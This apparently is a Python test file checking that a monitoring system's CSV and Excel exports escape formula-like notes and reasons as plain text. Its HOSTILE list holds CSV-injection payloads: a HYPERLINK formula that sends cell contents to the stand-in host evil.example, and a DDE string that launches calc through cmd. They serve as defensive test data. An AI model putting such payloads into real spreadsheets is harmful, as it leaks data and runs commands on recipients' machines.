"""Notes and reasons that look like formulas reach every export as text, never as live formulas."""
from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from openpyxl import load_workbook

from lianggang.lib.spreadsheet import csv_safe, is_formula_like
from lianggang.monitoring import entry, excel
from lianggang.monitoring.models import Value
from tests.commands import run

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text):
    assert is_formula_like(text) and csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-5.2", "+3", "12", "说明", "", "1e-3"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert not is_formula_like(text) and csv_safe(text) == text


@pytest.fixture
def hostile_value(world):
    entry.enter_value(world.filler_health, world.round, world.indicators["imr"], "5.1", note=HOSTILE[0])
    return Value.objects.get(indicator=world.indicators["imr"])


def _no_formula_in(path_or_bytes):
    wb = load_workbook(io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                texts.append(cell.value)
    return texts


def test_export_values_xlsx_writes_the_note_as_text(world, hostile_value, tmp_path):
    out = tmp_path / "v.xlsx"
    code, _, err = run("export_values", "--plan", str(world.plan.pk), "--region", world.county_a.code,
                       "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    assert HOSTILE[0] in _no_formula_in(out)


def test_export_values_csv_escapes_the_note(world, hostile_value, tmp_path):
    out = tmp_path / "v.csv"
    code, _, err = run("export_values", "--plan", str(world.plan.pk), "--region", world.county_a.code,
                       "--format", "csv", "-o", str(out))
    assert code == 0, err
    notes = [r["备注"] if "备注" in r else list(r.values())[9]
             for r in csv.DictReader(StringIO(out.read_text(encoding="utf-8-sig")))]
    assert "'" + HOSTILE[0] in notes and HOSTILE[0] not in notes


def test_the_departments_form_keeps_the_note_as_text_and_reads_it_back(world, hostile_value):
    data = excel.build_template(world.round, world.departments["health"])
    assert HOSTILE[0] in _no_formula_in(data)


def test_value_history_csv_escapes_the_reason(world, hostile_value, tmp_path):
    entry.enter_value(world.filler_health, world.round, world.indicators["imr"], "5.2",
                      expected_version=hostile_value.version, reason=HOSTILE[3])
    target = tmp_path / "h.csv"
    code, _, err = run("value_history", "--round", str(world.round.pk), "--user", "tongji", "--output", str(target))
    assert code == 0, err
    reasons = [r["原因"] for r in csv.DictReader(StringIO(target.read_text(encoding="utf-8-sig")))]
    assert "'" + HOSTILE[3] in reasons

